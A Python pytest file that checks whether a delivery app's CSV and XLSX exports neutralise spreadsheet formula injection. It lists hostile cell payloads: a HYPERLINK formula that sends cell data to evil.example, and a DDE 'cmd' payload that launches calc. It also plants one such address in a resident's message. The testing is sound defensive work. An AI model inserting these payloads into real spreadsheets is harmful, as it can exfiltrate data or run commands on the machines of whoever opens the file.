"""Exports are safe: a cell a spreadsheet would run as a formula is neutralised, in CSV and XLSX alike."""
from __future__ import annotations

import csv
import io
import json
import zipfile
import xml.etree.ElementTree as ET
from datetime import timedelta

import pytest
from chalice.test import Client

from app import app
from chalicelib.domain import dates, exports
from tests.wechat_driver import WeChat

SAFE = "xianggang-huayuan"
CANTEEN = "xianggang-huayuan-canteen"
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "＝1+1"]
NS = {"s": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def xlsx_rows(data: bytes) -> list[list[str]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "xl/workbook.xml" in archive.namelist() and "[Content_Types].xml" in archive.namelist()
        root = ET.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    assert not root.findall(".//s:f", NS)  # no formula anywhere
    return [["".join(c.itertext()) for c in row.findall("s:c", NS)] for row in root.findall(".//s:row", NS)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_payload_is_neutralised_in_csv_and_xlsx(payload):
    rows = [["XG-1", payload, 2, None]]
    parsed = list(csv.reader(io.StringIO(exports.csv_text(["编号", "地址", "份数", "备注"], rows).lstrip("\ufeff"))))
    assert parsed[1] == ["XG-1", "'" + payload, "2", ""]
    assert xlsx_rows(exports.xlsx_bytes(["编号", "地址", "份数", "备注"], rows))[1] == ["XG-1", "'" + payload, "2", ""]


def test_plain_text_and_numbers_are_left_alone():
    assert exports.safe_cell("香港中路10号") == "香港中路10号" and exports.safe_cell(3) == 3
    assert exports.safe_cell("a=b") == "a=b" and exports.safe_cell(None) == ""
    assert xlsx_rows(exports.xlsx_bytes(["a"], [["<b>&\x07"]]))[1] == ["<b>&"]


@pytest.fixture
def http(seed):
    with Client(app, stage_name="test") as client:
        yield client.http


def test_the_delivery_list_neutralises_what_residents_wrote(http, seed, morning):
    wx = WeChat(http, SAFE, seed)
    address = '=HYPERLINK("http://evil.example","香港中路10号")'
    wx.text("o-formula", f"地址 {address}")
    wx.text("o-formula", "明天中午送一份饭")
    login = json.loads(http.post("/api/v1/auth/login", headers={"Content-Type": "application/json"},
                                 body=json.dumps({"username": "team.xianggang-huayuan-365",
                                                  "password": "Demo#2026"})).body)
    team = {"Authorization": f"Bearer {login['token']}"}
    day = (dates.local_date(morning) + timedelta(days=1)).isoformat()
    base = f"/api/v1/canteens/{CANTEEN}/deliveries?date={day}&meal=lunch"
    rows = json.loads(http.get(base, headers=team).body)["items"]
    assert len(rows) == 1 and rows[0]["address"].startswith("=")  # JSON carries it as written
    text = http.get(base + "&format=csv", headers=team).body.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + rows[0]["address"] in cells
    assert not any(c.startswith(exports.FORMULA_STARTS) for c in cells)
    response = http.get(base + "&format=xlsx", headers={**team, "Accept": exports.XLSX_TYPE})
    assert response.status_code == 200 and response.headers["Content-Type"] == exports.XLSX_TYPE
    sheet = xlsx_rows(response.body)
    assert sheet[0][:3] == ["编号", "状态", "份数"] and "'" + rows[0]["address"] in sheet[1]
    assert not any(c.startswith(exports.FORMULA_STARTS) for row in sheet for c in row)
